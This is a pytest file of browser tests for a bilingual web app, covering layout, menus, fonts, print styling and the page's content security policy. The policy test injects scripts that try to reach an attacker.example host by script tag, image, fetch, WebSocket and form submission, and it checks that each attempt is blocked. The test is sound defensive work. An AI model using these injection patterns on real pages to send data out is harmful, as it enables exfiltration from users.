"""What only a browser shows: the language, what leaves, what goes wrong, and whether everyone can read it."""

from io import BytesIO
from urllib.parse import urlsplit

import numpy as np
import pytest
from PIL import Image

from tests.browser.visit import visit
from tests.share import WHOLE, crossed

LANGUAGES = ("en", "nl")
WIDTHS = (1280, 390)


@pytest.mark.parametrize(("language", "width"), crossed(LANGUAGES, WIDTHS))
def test_the_start_page(look, language, width):
    seen = look(language, width)
    assert seen.language() == language
    assert seen.findings() == []
    assert seen.beyond() == []


@pytest.mark.parametrize(
    ("width", "height"),
    [
        pytest.param(320, 640, id="320 px"),
        *([pytest.param(640, 450, id="1280 px at 200 %")] if WHOLE else []),
    ],
)
def test_no_text_has_to_be_scrolled_to_sideways(look, sample, width, height):
    """Twice as large, a page has half as many pixels of its own to stand in."""
    seen = look("nl", width, height=height)
    beyond = {"start": seen.beyond()}
    seen.upload(sample("v4-age-13"))
    for page in ("first", "watching", "day", "search"):
        beyond[page] = seen.go(page).beyond()
    assert {page: texts for page, texts in beyond.items() if texts} == {}


def test_the_font_is_our_own(look):
    seen = look()
    loaded = seen.page.evaluate(
        "document.fonts.ready.then(() => [...document.fonts].filter(f => f.status === 'loaded').map(f => f.family))"
    )
    assert any("Source Sans 3" in family for family in loaded)


def test_the_page_cannot_reach_another_host(browser, program):
    """The policy itself, not the good manners of the page: a script in it tries, and nothing is sent."""
    tries = {
        "script": "document.head.append(Object.assign(document.createElement('script'), {src: TO}))",
        "image": "document.body.append(Object.assign(new Image(), {src: TO}))",
        "request": "fetch(TO).catch(() => {})",
        "socket": "try { new WebSocket(TO.replace('http', 'ws')) } catch {}",
        "form": "const f = document.createElement('form'); f.action = TO; document.body.append(f); f.submit()",
    }
    with visit(browser, program) as seen:
        seen.start()
        seen.page.evaluate(
            "window.refused = []; document.addEventListener('securitypolicyviolation', e => refused.push(e.blockedURI)); 0"
        )
        for source, script in tries.items():
            to = f"http://{source}.attacker.example/"
            seen.page.evaluate("() => {" + script.replace("TO", f"'{to}'") + "; return 0}")
            seen.page.wait_for_function(
                "to => refused.some(uri => new URL(uri).hostname === to)",
                arg=urlsplit(to).hostname,
                timeout=30_000,
                polling=50,
            )


@pytest.mark.parametrize("language", LANGUAGES if WHOLE else ["nl"])
def test_on_a_narrow_screen_the_menu_closes_when_a_page_is_chosen(look, sample, language):
    seen = look(language, 390).upload(sample("v4-partial"))
    seen.go("devices")
    seen.page.locator('[data-testid="stSidebar"][data-collapsed="true"]').wait_for(
        state="attached", timeout=30_000
    )
    button = seen.page.locator('[data-testid="stExpandSidebarButton"]')
    button.wait_for()
    word = (
        "getComputedStyle(document.querySelector('[data-testid=stExpandSidebarButton]'), '::after').content"
    )
    assert seen.page.evaluate(word) == '"Menu"'
    assert "menu" in (button.get_attribute("aria-label") or "").lower()
    seen.page.wait_for_timeout(350)
    assert seen.findings() == []


def test_on_a_wide_screen_the_menu_stays(look, sample):
    seen = look("en", 1280).upload(sample("v4-partial")).go("devices")
    seen.page.wait_for_timeout(500)
    assert seen.page.locator('[data-testid="stSidebar"][data-collapsed="false"]').count() == 1


def test_the_dark_theme_prints_on_white_paper(browser, program, sample):
    """Read from the picture itself: what is painted, not what a style says."""
    with visit(browser, program, "nl", 1280, dark=True) as seen:
        seen.start().upload(sample("v4-age-13")).go("location")
        before = brightness(seen.page.screenshot())
        seen.page.emulate_media(media="print", color_scheme="dark")
        seen.page.wait_for_timeout(300)
        on_paper = seen.page.screenshot()
        assert before < 80
        assert brightness(on_paper) > 225
        drawing = seen.page.locator(".js-plotly-plot").first
        drawing.scroll_into_view_if_needed()
        assert brightness(drawing.screenshot()) > 200
        ink = seen.page.locator("h1").first.evaluate("part => getComputedStyle(part).color")
        assert ink == "rgb(22, 24, 27)"


def brightness(picture):
    """The mean of all pixels, from 0 to 255."""
    return float(np.asarray(Image.open(BytesIO(picture)).convert("L")).mean())


#: A4 between margins of 1 cm, in the pixels of a page.
PAPER = 190 / 25.4 * 96


@pytest.mark.parametrize("width", [1280, 1920] if WHOLE else [1920])
def test_a_figure_is_whole_on_paper_and_the_menu_is_left_out(look, sample, width):
    """Nothing is drawn anew for paper, so what is as wide as on the screen would be cut off at its side."""
    seen = look("nl", width).upload(sample("v4-age-13"))
    drawing = seen.page.locator(".js-plotly-plot .main-svg").first
    assert drawing.bounding_box()["width"] > PAPER
    seen.page.emulate_media(media="print")
    assert not seen.page.locator('[data-testid="stSidebar"]').is_visible()
    assert drawing.bounding_box()["width"] <= PAPER
